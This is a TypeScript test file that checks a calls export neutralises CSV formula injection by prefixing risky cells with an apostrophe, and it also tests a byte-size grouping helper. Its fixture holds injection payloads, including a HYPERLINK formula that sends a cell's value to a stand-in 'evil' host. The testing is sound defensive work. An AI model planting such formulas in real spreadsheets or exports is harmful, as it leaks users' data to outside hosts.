import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from '../../src/modules/calls/call-export.js';
import { groupBySize, type CallRow } from '../../src/modules/calls/call.repository.js';

const row: CallRow = {
  id: '6c3f0a52-51b4-4c1e-9a57-0d7f2f3c6a11',
  organization_id: 'a5f1c2d3-0000-4000-8000-000000000001',
  agent_id: 'a5f1c2d3-0000-4000-8000-000000000002',
  call_id: 'call-1',
  customer_name: '=HYPERLINK("http://evil/?"&A1)',
  customer_request: '-1+2',
  phone_number: '+4930123456',
  duration: 42,
  done: true,
  general_success: false,
  disconnection_reason: 'user_hangup',
  call_summary: '@SUM(A1:A9)',
  transcript: [{ role: 'user', text: '=1+1' }],
  audio_file_url: null,
  final_score: null,
  employee_id: null,
  employee_name: null,
  note: '\tnote',
  extracted_data: { units: -3, urgency: '+routine' },
  direction: 'inbound',
  outbound_call_id: null,
  experiment_id: null,
  variant: null,
  is_purged: false,
  purged_at: null,
  deleted_at: null,
  created_at: new Date('2026-05-03T08:00:00Z'),
  updated_at: new Date('2026-05-03T09:00:00Z'),
};

describe('CSV cells of the calls export', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+49301234567', "'+49301234567"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['=A1,"b"', `"'=A1,""b"""`],
    ['Anna', 'Anna'],
    [" '=x", " '=x"],
    ['', ''],
  ])('writes the text %j as %j', (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it('writes numbers, booleans and dates as they are, a negative number too', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(12.5)).toBe('12.5');
    expect(csvField(false)).toBe('false');
    expect(csvField(new Date('2026-05-03T08:00:00Z'))).toBe('2026-05-03T08:00:00.000Z');
    expect(csvField(null)).toBe('');
  });

  it("makes every text cell of a call inert and writes any phone number as text (a leading ')", () => {
    const fields = [
      { name: 'urgency', type: 'string' as const },
      { name: 'units', type: 'number' as const },
    ];
    const line = csvLine(row, fields);
    expect(line).toContain(`,"'=HYPERLINK(""http://evil/?""&A1)",'-1+2,'+4930123456,42,`);
    expect(line).toContain(",'@SUM(A1:A9),,,'\tnote,false,,inbound,,,,'+routine,-3,");
    expect(csvLine({ ...row, phone_number: '0301234567' }, fields)).toContain(",'0301234567,");
    expect(csvLine({ ...row, phone_number: null }, fields)).toContain("'-1+2,,42,");
  });
});

describe('groupBySize', () => {
  const keys = (...bytes: number[]) => bytes.map((b, i) => ({ id: String(i), bytes: b }));
  const sizes = (groups: { bytes: number }[][]) => groups.map((g) => g.map((k) => k.bytes));

  it('cuts keys into runs of at most the limit, in order, a bigger key alone', () => {
    expect(sizes(groupBySize(keys(40, 50, 10, 30, 200, 5, 95, 1), 100))).toEqual([
      [40, 50, 10],
      [30],
      [200],
      [5, 95],
      [1],
    ]);
    expect(groupBySize([], 100)).toEqual([]);
  });
});
